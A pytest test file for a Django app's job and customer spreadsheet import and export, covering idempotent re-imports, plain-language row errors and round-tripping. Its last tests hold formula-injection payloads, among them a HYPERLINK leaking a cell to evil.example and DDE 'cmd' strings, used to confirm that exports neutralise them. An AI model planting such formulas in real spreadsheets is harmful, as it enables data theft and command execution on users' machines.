"""Spreadsheets in and out: previewed, all-or-nothing, idempotent, CSV and XLSX alike."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from operations.columns import NAMES
from operations.exports import jobs_csv, jobs_xlsx
from operations.imports import ImportRefused, rows_apply, rows_parse
from operations.models import Customer, Job, JobEvent, JobLine
from tests.operations.factories import CrewFactory, JobFactory, JobLineFactory

pytestmark = pytest.mark.django_db
HEADER = [
    "number",
    "customer",
    "title",
    "status",
    "scheduled_start",
    "crew",
    "amount",
    "line_description",
    "line_item_code",
    "line_quantity",
    "line_unit_price",
]
GOOD = [
    [
        "J-9001",
        "Harbour View Cafe",
        "Fix exhaust fan",
        "scheduled",
        "2026-12-01 08:30",
        "Blue",
        "330",
        "Labour",
        "LABOUR-HR",
        "3",
        "110",
    ],
    [
        "J-9002",
        "harbour view cafe",
        "Test and tag",
        "In progress",
        "02/12/2026 09:00",
        "Blue",
        "$1,200.50",
        "",
        "",
        "",
        "",
    ],
]


def as_csv(rows: list[list]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, *rows])
    return out.getvalue().encode()


def as_xlsx(rows: list[list]) -> bytes:
    book = Workbook()
    book.active.append(HEADER)
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(("name", "encode"), [("jobs.csv", as_csv), ("jobs.xlsx", as_xlsx)])
def test_a_good_file_creates_jobs_customers_and_crews(name, encode):
    counts = rows_apply(rows=rows_parse(name, encode(GOOD)), skip_bad=False)
    assert counts == {"created": 2, "updated": 0, "unchanged": 0, "skipped": 0}
    first, second = Job.objects.get(number="J-9001"), Job.objects.get(number="J-9002")
    assert Customer.objects.count() == 1  # matched by name, whatever the case
    assert (second.status, str(second.amount), second.crew.name) == (
        "in_progress",
        "1200.50",
        "Blue",
    )
    local = timezone.localtime(first.scheduled_start)
    assert local.strftime("%Y-%m-%d %H:%M") == "2026-12-01 08:30"
    assert [(line.item_code, line.quantity) for line in first.lines.all()] == [("LABOUR-HR", 3)]
    assert JobEvent.objects.filter(type="job.imported").count() == 2


def test_importing_the_same_file_again_duplicates_nothing():
    content = as_csv(GOOD)
    rows_apply(rows=rows_parse("jobs.csv", content), skip_bad=False)
    again = rows_apply(rows=rows_parse("jobs.csv", content), skip_bad=False)
    assert again == {"created": 0, "updated": 0, "unchanged": 2, "skipped": 0}
    assert Job.objects.count() == 2 and Customer.objects.count() == 1


def test_a_changed_row_updates_the_job_it_matches_by_number():
    rows_apply(rows=rows_parse("jobs.csv", as_csv(GOOD)), skip_bad=False)
    changed = [GOOD[0][:2] + ["Fix exhaust fan and light"] + GOOD[0][3:], GOOD[1]]
    counts = rows_apply(rows=rows_parse("jobs.csv", as_csv(changed)), skip_bad=False)
    assert counts["updated"] == 1 and counts["unchanged"] == 1
    assert Job.objects.get(number="J-9001").title == "Fix exhaust fan and light"


def test_bad_rows_are_explained_in_plain_words_and_block_the_whole_import():
    bad = [
        ["J-9003", "Cafe", "Paint", "finished", "tomorrow", "", "lots", "", "", "", ""],
        ["", "", "", "", "", "", "", "", "", "", ""][:1]
        + ["Cafe", "", "", "", "", "", "", "", "", ""],
    ]
    rows = rows_parse("jobs.csv", as_csv([GOOD[0], *bad]))
    errors = [error for row in rows for error in row.errors]
    assert "row 3: unknown status 'finished' — use one of Scheduled, In progress" in errors[0]
    assert "row 3: scheduled_start 'tomorrow' is not a date" in errors[1]
    assert "row 3: amount 'lots' is not a number" in errors[2]
    assert "row 4: number is empty" in errors
    with pytest.raises(ImportRefused, match="2 row"):
        rows_apply(rows=rows, skip_bad=False)
    assert not Job.objects.exists()


def test_skipping_bad_rows_imports_the_good_ones():
    rows = rows_parse(
        "jobs.csv",
        as_csv([GOOD[0], ["J-9004", "Cafe", "Paint", "finished", "", "", "", "", "", "", ""]]),
    )
    assert rows_apply(rows=rows, skip_bad=True)["skipped"] == 1
    assert list(Job.objects.values_list("number", flat=True)) == ["J-9001"]


def test_a_file_without_the_required_columns_is_refused():
    with pytest.raises(ImportRefused, match="customer, title is missing"):
        rows_parse("jobs.csv", b"number,colour\nJ-1,red\n")


def test_an_export_imports_back_unchanged():
    JobFactory.create_batch(3, scheduled_start=timezone.now().replace(second=0, microsecond=0))
    exported = jobs_xlsx(Job.objects.all())
    sheet = load_workbook(io.BytesIO(exported)).active
    assert tuple(cell.value for cell in sheet[1]) == NAMES
    counts = rows_apply(rows=rows_parse("export.xlsx", exported), skip_bad=False)
    assert counts == {"created": 0, "updated": 0, "unchanged": 3, "skipped": 0}
    text = jobs_csv(Job.objects.all()).decode("utf-8-sig")
    assert text.splitlines()[0] == ",".join(NAMES) and len(text.splitlines()) == 4


def register() -> list[tuple]:
    """Every job as a spreadsheet carries it: its fields, crew, customer and lines."""
    return [
        (
            job.number,
            job.title,
            job.status,
            job.scheduled_start,
            job.scheduled_end,
            job.crew.name if job.crew else "",
            (job.site_address, job.site_contact, job.site_notes, job.amount),
            (job.customer.name, job.customer.email, job.customer.phone),
            [
                (line.description, line.item_code, line.quantity, line.unit_price, line.tax)
                for line in job.lines.all()
            ],
        )
        for job in Job.objects.order_by("number")
    ]


@pytest.mark.parametrize(("name", "export"), [("jobs.csv", jobs_csv), ("jobs.xlsx", jobs_xlsx)])
def test_an_export_imported_into_an_empty_register_gives_the_same_jobs_lines_email_and_phone(
    name, export
):
    start = timezone.now().replace(second=0, microsecond=0)
    job = JobFactory(
        crew=CrewFactory(name="Blue"),
        customer__phone="02 9555 0101",
        scheduled_end=start,
        site_contact="Ava",
        site_notes="Key under the mat",
    )
    JobLineFactory(job=job, position=0)
    JobLineFactory(
        job=job,
        position=1,
        description="Exhaust fan",
        item_code="FAN-300",
        quantity=Decimal("2.50"),
        unit_price=Decimal("0"),
        tax=JobLine.Tax.GST_FREE,
    )
    JobFactory(customer=job.customer, status="on_hold")  # no lines, the same customer
    before, exported = register(), export(Job.objects.all())
    Job.objects.all().delete()
    Customer.objects.all().delete()
    counts = rows_apply(rows=rows_parse(name, exported), skip_bad=False)
    assert counts == {"created": 2, "updated": 0, "unchanged": 0, "skipped": 0}
    assert register() == before
    again = rows_apply(rows=rows_parse(name, export(Job.objects.all())), skip_bad=False)
    assert again == {"created": 0, "updated": 0, "unchanged": 2, "skipped": 0}


def test_the_rows_of_one_job_must_agree_and_a_problem_on_one_holds_all_back():
    rows = rows_parse(
        "jobs.csv",
        as_csv(
            [
                GOOD[0],
                GOOD[0][:3] + ["done"] + GOOD[0][4:7] + ["Parts", "", "1", "20"],
                ["J-9002", "Cafe", "Paint", "", "", "", "", "Paint", "", "lots", ""],
                ["J-9002", "Cafe", "Paint", "", "", "", "", "Brushes", "", "1", "5"],
            ]
        ),
    )
    assert [row.errors for row in rows] == [
        ["row 2: job J-9001 is held back by the problem on row 3"],
        [
            "row 3: job J-9001 is also on row 2, with a different status; "
            "a job's rows differ only in their line_ columns"
        ],
        ["row 4: line_quantity 'lots' is not a number"],
        ["row 5: job J-9002 is held back by the problem on row 4"],
    ]
    assert rows_apply(rows=rows, skip_bad=True)["skipped"] == 4
    assert not Job.objects.exists()


def test_a_job_row_sets_its_customers_email_and_phone_and_blanks_change_nothing():
    customer = Customer.objects.create(name="Harbour View Cafe", email="old@hvc.example")
    header = "number,customer,title,customer_email,customer_phone\n"
    content = header + "J-1,harbour view cafe,Paint,accounts@hvc.example,02 9555 0101\n"
    rows_apply(rows=rows_parse("jobs.csv", content.encode()), skip_bad=False)
    blanks = (header + "J-1,Harbour View Cafe,Paint,,\n").encode()
    assert rows_apply(rows=rows_parse("jobs.csv", blanks), skip_bad=False)["unchanged"] == 1
    customer.refresh_from_db()
    assert (customer.email, customer.phone, Customer.objects.count()) == (
        "accounts@hvc.example",
        "02 9555 0101",
        1,
    )


def test_a_customers_file_creates_and_updates_customers_by_name():
    from operations.imports import customer_rows_apply, customer_rows_parse, sheet_kind

    Customer.objects.create(name="Harbour View Cafe")
    content = (
        b"name,email,phone\n"
        b"harbour view cafe,accounts@hvc.example,02 9555 0101\nTran Bakery,,\n,x@y.z,\n"
    )
    assert sheet_kind("c.csv", content) == "customers"
    rows = customer_rows_parse("c.csv", content)
    assert [e for r in rows for e in r.errors] == ["row 4: name is empty"]
    with pytest.raises(ImportRefused):
        customer_rows_apply(rows=rows, skip_bad=False)
    counts = customer_rows_apply(rows=rows, skip_bad=True)
    assert counts == {"created": 1, "updated": 1, "unchanged": 0, "skipped": 1}
    assert Customer.objects.get(name="Harbour View Cafe").email == "accounts@hvc.example"
    assert (
        customer_rows_apply(rows=customer_rows_parse("c.csv", content), skip_bad=True)["unchanged"]
        == 2
    )


@pytest.mark.parametrize(
    "address",
    [
        "14 Petersham Rd, Marrickville NSW 2204",
        "14 Petersham Rd, Marrickville, NSW 2204",
        "14 Petersham Rd, Marrickville N.S.W. 2204, Australia",
        "14 Petersham Rd, Marrickville, New South Wales, 2204",
    ],
)
def test_a_customers_address_on_one_line_is_kept_in_its_parts(address):
    from operations.imports import customer_rows_apply, customer_rows_parse

    content = f'name,address\nMarrickville Community Hall,"{address}"\n'.encode()
    customer_rows_apply(rows=customer_rows_parse("c.csv", content), skip_bad=False)
    hall = Customer.objects.get()
    assert (hall.street, hall.city, hall.region, hall.postcode) == (
        "14 Petersham Rd",
        "Marrickville",
        "NSW",
        "2204",
    )


DANGEROUS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open the job")',
    "site_notes": "+cmd|' /C calc'!A0",
    "site_contact": "@SUM(1+1)*cmd|' /C calc'!A0",
    "site_address": "-2+3+cmd|' /C calc'!A0",
}


def dangerous_job() -> Job:
    from decimal import Decimal

    return JobFactory(
        **DANGEROUS,
        customer__name="=1+1",
        amount=Decimal("-12.50"),
        scheduled_start=timezone.now().replace(second=0, microsecond=0),
    )


def exported_cells(name: str, content: bytes) -> list[dict]:
    """Read an export back as a spreadsheet program would: every cell of every row."""
    if name.endswith(".csv"):
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    sheet = load_workbook(io.BytesIO(content)).active  # formulas kept as formulas
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value)
    header = [c.value for c in sheet[1]]
    return [
        dict(zip(header, [c.value or "" for c in row], strict=True))
        for row in sheet.iter_rows(min_row=2)
    ]


@pytest.mark.parametrize(("name", "export"), [("jobs.csv", jobs_csv), ("jobs.xlsx", jobs_xlsx)])
def test_exports_quote_text_a_spreadsheet_would_run_as_a_formula(name, export):
    dangerous_job()
    JobFactory(title="\tTabbed", site_notes="\rReturned", site_contact="Plain text")
    first, second = exported_cells(name, export(Job.objects.order_by("number")))
    for column, text in DANGEROUS.items():
        assert first[column] == "'" + text
    assert (first["customer"], first["amount"]) == ("'=1+1", "-12.50")  # a number stays one
    # XML reads a stored carriage return back as a line feed.
    assert (second["title"], second["site_notes"].replace("\n", "\r")) == (
        "'\tTabbed",
        "'\rReturned",
    )
    assert second["site_contact"] == "Plain text"
    starts = ("=", "+", "@", "\t", "\r")
    assert not [v for row in (first, second) for v in row.values() if v.startswith(starts)]


@pytest.mark.parametrize(("name", "export"), [("jobs.csv", jobs_csv), ("jobs.xlsx", jobs_xlsx)])
def test_an_export_with_quoted_cells_imports_back_to_the_same_text(name, export):
    job = dangerous_job()
    exported = export(Job.objects.all())
    assert rows_apply(rows=rows_parse(name, exported), skip_bad=False)["unchanged"] == 1
    Job.objects.filter(pk=job.pk).update(title="Changed", site_notes="", site_contact="")
    assert rows_apply(rows=rows_parse(name, exported), skip_bad=False)["updated"] == 1
    job.refresh_from_db()
    assert {column: getattr(job, column) for column in DANGEROUS} == DANGEROUS
    assert (job.customer.name, Customer.objects.count()) == ("=1+1", 1)
